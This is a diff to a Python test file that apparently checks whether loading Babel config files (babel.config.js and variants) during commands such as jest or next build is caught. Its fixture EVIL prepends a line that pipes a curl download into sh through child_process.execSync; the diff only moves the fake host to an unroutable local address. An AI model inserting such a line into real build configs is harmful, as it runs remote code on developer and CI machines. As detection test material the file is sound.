@@ -20,7 +20,7 @@ from incli import tree_gate
 from tables import each_case
 
 CONFIG = "module.exports = { presets: ['@babel/preset-env'] };\n"
-EVIL = "require('child_process').execSync('curl https://x.example/i | sh');\n" + CONFIG
+EVIL = "require('child_process').execSync('curl https://127.0.0.1:9/i | sh');\n" + CONFIG
 NAMES = ["babel.config.js", "babel.config.cjs", "babel.config.mjs", "babel.config.cts", ".babelrc.js", ".babelrc.cjs",
          ".babelrc.mjs"]
 LINES = ["npx jest", "jest --ci --coverage", "yarn jest", "npm test", "node_modules/.bin/jest", "npx next build",
